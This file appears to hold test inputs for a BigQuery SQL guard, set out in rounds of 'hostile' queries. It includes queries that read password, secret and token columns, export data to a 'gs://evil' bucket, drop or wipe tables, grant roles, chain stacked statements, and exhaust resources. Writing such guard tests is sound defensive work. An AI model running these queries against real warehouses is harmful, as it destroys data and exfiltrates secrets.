# hostile in BigQuery
SELECT * FROM EXTERNAL_QUERY('proj.us.conn', 'SELECT 1')
SELECT * FROM EXTERNAL_QUERY('conn', '''SELECT * FROM mysql.user''')
SELECT * FROM shop.INFORMATION_SCHEMA.TABLES
SELECT * FROM `proj.shop.INFORMATION_SCHEMA.COLUMNS`
SELECT * FROM INFORMATION_SCHEMA.SCHEMATA
SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS
SELECT * FROM `region-us.INFORMATION_SCHEMA.JOBS_BY_PROJECT`
SELECT * FROM shop.__TABLES__
SELECT * FROM `proj.shop.__TABLES_SUMMARY__`
SELECT * FROM `shop.*`
SELECT * FROM `shop.events_*`
SELECT * FROM `other.shop.orders`
SELECT * FROM otherds.orders
SELECT * FROM ML.PREDICT(MODEL shop.m, (SELECT 1))
SELECT * FROM ML.FORECAST(MODEL shop.m)
SELECT * FROM ML.GENERATE_TEXT(MODEL shop.m, (SELECT 1))
SELECT * FROM AI.GENERATE_TABLE(MODEL shop.m, (SELECT 1))
SELECT AI.GENERATE('x')
SELECT * FROM VECTOR_SEARCH(TABLE shop.orders, 'x', TABLE shop.orders)
SELECT SESSION_USER()
SELECT @@project_id
SELECT @@session_id
SELECT @x
SELECT ERROR('x')
SELECT KEYS.NEW_KEYSET('x')
SELECT KEYS.KEYSET_CHAIN('x', b'y')
SELECT AEAD.DECRYPT_STRING(KEYS.NEW_KEYSET('x'), b'a', 'b')
SELECT AEAD.ENCRYPT(b'a', 'b', 'c')
SELECT shop.my_udf(1)
SELECT `proj.shop.my_udf`(1)
SELECT my_udf(1)
SELECT * FROM shop.my_tvf(1)
SELECT * FROM APPENDS(TABLE shop.orders, NULL, NULL)
SELECT * FROM CHANGES(TABLE shop.orders, NULL, NULL)
SELECT * FROM SEARCH(shop.orders, 'x')
SELECT SEARCH(o, 'x') FROM shop.orders o
SELECT * FROM GAP_FILL(TABLE shop.orders, ts_column => 'x', bucket_width => INTERVAL 1 DAY)
EXPORT DATA OPTIONS (uri = 'gs://x/*') AS SELECT * FROM shop.orders
LOAD DATA INTO shop.x FROM FILES (uris = ['gs://x'])
CREATE TEMP FUNCTION f() AS (1); SELECT f()
CREATE FUNCTION f(x INT64) RETURNS INT64 LANGUAGE js AS 'return 1'; SELECT f(1)
DECLARE x INT64; SELECT x
SET x = 1
BEGIN SELECT 1; END
BEGIN TRANSACTION
EXECUTE IMMEDIATE 'SELECT 1'
CALL shop.p()
ASSERT 1 = 1
CREATE TABLE shop.x AS SELECT 1
CREATE SNAPSHOT TABLE shop.x CLONE shop.orders
CREATE EXTERNAL TABLE shop.x OPTIONS (uris = ['gs://x'])
INSERT shop.orders (id) VALUES (1)
UPDATE shop.orders SET total = 0 WHERE TRUE
DELETE shop.orders WHERE TRUE
TRUNCATE TABLE shop.orders
MERGE shop.orders USING shop.customers ON FALSE WHEN NOT MATCHED THEN INSERT ROW
DROP TABLE shop.orders
DROP ALL ROW ACCESS POLICIES ON shop.orders
GRANT `roles/x` ON TABLE shop.orders TO 'user:x'
ALTER TABLE shop.orders SET OPTIONS (description = 'x')
SELECT REPEAT('a', 1000000000)
SELECT * FROM UNNEST(GENERATE_ARRAY(1, 100000000000))
SELECT LPAD('a', 1000000000)
SELECT * FROM shop.secrets
SELECT password FROM shop.customers
SELECT c.password FROM shop.customers AS c
SELECT * FROM `gs://bucket/x.csv`
SELECT * FROM shop.orders WHERE id = @id
SELECT * FROM shop.orders WHERE id = ?
SELECT ARRAY(SELECT password FROM shop.secrets)
SELECT * FROM shop.orders@-3600000
SELECT * FROM [proj:shop.orders]
SELECT NET.EVIL('x')
SELECT SAFE.EVIL('x')
SELECT SAFE.ERROR('x')
SELECT BIGQUERY.X('a')
SELECT * FROM UNNEST(shop.my_udf())
SELECT OBJ.FETCH_METADATA(x) FROM shop.orders
FOR r IN (SELECT 1) DO SELECT 1; END FOR
# written after the lists, and counted when they first ran (docs/guard.md)
SELECT * FROM EXTERNAL_QUERY('conn', 'SELECT 1')
SELECT * FROM ML.PREDICT(MODEL shop.m, TABLE shop.orders)
SELECT * FROM ML.GENERATE_TEXT(MODEL shop.m, (SELECT 'x' AS prompt))
SELECT * FROM AI.FORECAST(TABLE shop.orders, data_col => 'total', timestamp_col => 'created_at')
SELECT @@query_label, @@project_id
SELECT @@script.bytes_billed
SELECT @p
SELECT ?
SELECT KEYS.NEW_KEYSET('AEAD_AES_GCM_256')
SELECT AEAD.DECRYPT_STRING(k, c, 'x') FROM (SELECT b'' AS k, b'' AS c)
SELECT * FROM INFORMATION_SCHEMA.TABLES
SELECT * FROM shop.INFORMATION_SCHEMA.COLUMNS
SELECT * FROM `proj.shop.INFORMATION_SCHEMA.TABLES`
SELECT * FROM other_dataset.orders
SELECT * FROM `proj.shop.*`
SELECT * FROM `proj.shop.ord*`
SELECT * FROM `shop.orders$20240101`
SELECT * FROM secret
SELECT * FROM CHANGES(TABLE shop.orders, NULL, CURRENT_TIMESTAMP())
SELECT shop.my_remote_function(1)
SELECT `proj.shop.udf`(1)
SELECT bqutil.fn.int('1')
SELECT * FROM GAP_FILL(TABLE shop.secret, ts_column => 'x', bucket_width => INTERVAL 1 DAY)
EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv', format = 'CSV') AS SELECT * FROM orders
EXPORT MODEL shop.m OPTIONS (uri = 'gs://x')
LOAD DATA INTO shop.orders FROM FILES (format = 'CSV', uris = ['gs://x'])
INSERT INTO orders (id) VALUES (1)
INSERT orders (id) VALUES (1)
UPDATE orders SET total = 0 WHERE TRUE
DELETE FROM orders WHERE TRUE
DELETE orders WHERE TRUE
MERGE orders USING customers ON FALSE WHEN NOT MATCHED THEN INSERT ROW
TRUNCATE TABLE orders
CREATE TABLE shop.x AS SELECT * FROM orders
CREATE TEMP TABLE x AS SELECT 1
CREATE TEMP FUNCTION f() RETURNS STRING LANGUAGE js AS 'return 1'; SELECT f()
CREATE MODEL shop.m OPTIONS (model_type = 'linear_reg') AS SELECT * FROM orders
CREATE OR REPLACE EXTERNAL TABLE shop.x OPTIONS (format = 'CSV', uris = ['gs://x'])
DROP TABLE orders
ALTER TABLE orders SET OPTIONS (description = 'x')
CALL shop.proc()
EXECUTE IMMEDIATE 'DELETE FROM orders WHERE TRUE'
BEGIN TRANSACTION; SELECT 1; COMMIT TRANSACTION
DECLARE x INT64 DEFAULT 1
SET @@query_label = 'x'
IF TRUE THEN SELECT 1; END IF
LOOP SELECT 1; END LOOP
WHILE TRUE DO SELECT 1; END WHILE
ASSERT TRUE
RAISE USING MESSAGE = 'x'
SELECT 1; SELECT 2
SELECT 1; DROP TABLE orders
GRANT `roles/x` ON TABLE orders TO 'user:x'
SELECT LPAD('a', 1000000000, 'b')
SELECT RPAD(REPEAT('a', 1000000), 100000000)
SELECT * FROM orders WHERE id = (SELECT * FROM EXTERNAL_QUERY('c', 'x'))
SELECT SAFE.EXTERNAL_QUERY('a', 'b')
SELECT _TABLE_SUFFIX FROM orders
SELECT _FILE_NAME FROM orders
WITH FUNCTION f() AS (1) SELECT 1
WITH x AS (SELECT 1) DELETE FROM orders WHERE TRUE
SELECT OBJ.GET_ACCESS_URL(x, 'r') FROM orders
SELECT DLP_DETERMINISTIC_ENCRYPT(b'x', 'y', '')
SELECT SEARCH(orders, 'x') FROM orders
SELECT NET.MAKE_NET('x')
SELECT FETCH_METADATA('x')
FROM EXTERNAL_QUERY('c', 'x') |> SELECT *
FROM secret |> WHERE TRUE
FROM orders |> CALL ML.PREDICT(MODEL shop.m)
FROM orders |> EXPORT DATA OPTIONS (uri = 'gs://x')
SELECT * FROM ML.TRAINING_INFO(MODEL shop.m)
GRAPH_TABLE(g MATCH (a) RETURN a)
SELECT * FROM GRAPH_TABLE(shop.g MATCH (a) RETURN a.id)
SELECT * FROM ML.EVALUATE(MODEL shop.m)
SELECT ML.DISTANCE([1], [2]), ML.GENERATE_EMBEDDING(1)
SELECT * FROM AI.GENERATE_TABLE(MODEL m, TABLE t)
SELECT EXTERNAL_OBJECT_TRANSFORM(TABLE x, ['SIGNED_URL'])
SELECT * FROM EXTERNAL_OBJECT_TRANSFORM(TABLE x, ['SIGNED_URL'])
# by somebody who has read docs/guard.md
SELECT * FROM EXTERNAL_QUERY('c', 'SELECT 1')
SELECT * FROM ML.PREDICT(MODEL m, TABLE orders)
SELECT * FROM ML.GENERATE_TEXT(MODEL m, (SELECT 'x' AS prompt))
SELECT * FROM proj.shop.INFORMATION_SCHEMA.COLUMNS
SELECT * FROM `proj.shop.orders_*`
SELECT * FROM `other-proj.shop.orders`
SELECT * FROM other-proj.shop.orders
SELECT * FROM proj.shop.secrets
SELECT * FROM `proj`.`shop`.`secrets`
SELECT my_dataset.my_function(1)
SELECT NET.HOST('x'), my.f(1)
SELECT REPEAT('x', 10000000000)
SELECT GENERATE_ARRAY(1, 100000000000)
SELECT * FROM orders FOR SYSTEM_TIME AS OF TIMESTAMP '2020-01-01', secrets
SELECT * FROM APPENDS(TABLE secrets, NULL, NULL)
SELECT * FROM CHANGES(TABLE orders, NULL, NULL)
SELECT * FROM VECTOR_SEARCH(TABLE secrets, 'a', TABLE orders)
SELECT * FROM SEARCH(secrets, 'x')
SELECT SEARCH(s, 'x') FROM secrets s
SELECT * FROM my_table_function(1)
EXPORT DATA OPTIONS (uri = 'gs://x') AS SELECT 1
DECLARE x INT64
LOAD DATA INTO x FROM FILES (uris = ['x'])
FROM secrets |> SELECT *
FROM orders |> CROSS JOIN secrets
SELECT AS STRUCT * FROM secrets
SELECT ARRAY(SELECT AS STRUCT * FROM secrets)
SELECT orders FROM secrets AS orders
SELECT _TABLE_SUFFIX FROM `proj.shop.orders*`
WITH RECURSIVE c AS (SELECT 1 AS n UNION ALL SELECT n FROM c) SELECT * FROM c
SELECT * FROM GAP_FILL(TABLE secrets, ts_column => 'ts', bucket_width => INTERVAL 1 DAY)
SELECT WITH(a AS (SELECT token FROM secrets), a)
# a fourth round, written before the lists were read again
SELECT * FROM other-project.shop.orders
SELECT * FROM `other-project.shop.orders`
SELECT * FROM `other-project`.shop.orders
SELECT * FROM `other-project.shop`.orders
SELECT * FROM `proj.shop.orders*`
SELECT * FROM `proj.shop.*` WHERE _TABLE_SUFFIX = 'secret'
SELECT * FROM proj.shop.INFORMATION_SCHEMA.TABLES
SELECT * FROM `proj.region-us.INFORMATION_SCHEMA.JOBS`
SELECT * FROM region-us.INFORMATION_SCHEMA.JOBS_BY_USER
SELECT * FROM orders$20240101
SELECT * FROM ML.GENERATE_TEXT(MODEL shop.m, (SELECT name AS prompt FROM customers))
SELECT AI.GENERATE('x', connection_id => 'c').result FROM orders
SELECT * FROM VECTOR_SEARCH(TABLE shop.secret, 'a', TABLE shop.orders)
SELECT SESSION_USER(), @@project_id
SELECT shop.my_udf(id) FROM orders
SELECT KEYS.KEYSET_CHAIN('gcp-kms://x', b'y')
SELECT NET.HOST(name), NET.FETCH(name) FROM customers
SELECT REPEAT('x', 1000000000), GENERATE_ARRAY(1, 1000000000) FROM orders
SELECT * FROM shop.secret FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 HOUR)
SELECT * FROM UNNEST(GENERATE_DATE_ARRAY('0001-01-01', '9999-12-31')) a, UNNEST(GENERATE_ARRAY(1, 10000000000)) b
SELECT ERROR(name) FROM customers
FROM orders |> CALL my_tvf(1)
FROM orders |> JOIN shop.secret ON TRUE
FROM shop.secret |> SELECT token
WITH t AS (SELECT 1) SELECT * FROM t UNION ALL SELECT 1 FROM `a-b.c.d`
DECLARE x INT64; SELECT 1
SELECT * FROM my_tvf(TABLE shop.secret)
SELECT AI.IF('x', name) FROM customers
SELECT * FROM GRAPH_TABLE(g MATCH (a) RETURN a.id)
SELECT * FROM `proj`.`region-us`.INFORMATION_SCHEMA.JOBS
SELECT * FROM proj.shop.orders_* FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 DAY)
SELECT * FROM shop.`orders$20240101`
SELECT * FROM APPENDS(TABLE proj.shop.secret, NULL, NULL)
SELECT * FROM VECTOR_SEARCH(TABLE proj.other.t, 'e', TABLE proj.shop.orders, 'e')
SELECT * FROM ML.PREDICT(MODEL `proj.other.m`, TABLE shop.orders)
# a fifth round, written before the lists were read; then rows of constants and recursions
SELECT * FROM EXTERNAL_QUERY('proj.us.c', 'SELECT 1')
SELECT * FROM ML.PREDICT(MODEL `proj.shop.m`, TABLE `proj.shop.customers`)
SELECT AI.GENERATE('x', connection_id => 'c')
SELECT * FROM AI.FORECAST(TABLE `proj.shop.vault`, data_col => 'x', timestamp_col => 't')
SELECT * FROM `proj.shop.v*` WHERE _TABLE_SUFFIX = 'ault'
SELECT * FROM `proj.shop.orders@-3600000`
SELECT * FROM `proj.shop.vault$20240101`
SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS_BY_PROJECT
SELECT * FROM proj.shop.__TABLES__
SELECT * FROM APPENDS(TABLE proj.shop.orders, NULL, NULL)
SELECT * FROM VECTOR_SEARCH(TABLE proj.shop.vault, 'e', (SELECT [1.0] AS e))
FROM vault |> SELECT token
FROM orders |> JOIN vault USING (id) |> SELECT token
FROM orders |> UNION ALL (SELECT * FROM vault)
SELECT c FROM vault c
SELECT AS STRUCT v.* FROM vault v
DECLARE x INT64 DEFAULT 1; SELECT x
SELECT @@project_id, SESSION_USER()
SELECT OBJ.GET_ACCESS_URL(ref, 'r') FROM customers
EXPORT DATA OPTIONS (uri = 'gs://x/*') AS SELECT 1
SELECT shop.fn(1)
SELECT * FROM GRAPH_TABLE(shop.g MATCH (n) RETURN n.id)
SELECT COUNT(*) FROM UNNEST(GENERATE_TIMESTAMP_ARRAY('2000-01-01', '2024-01-01', INTERVAL 1 MICROSECOND))
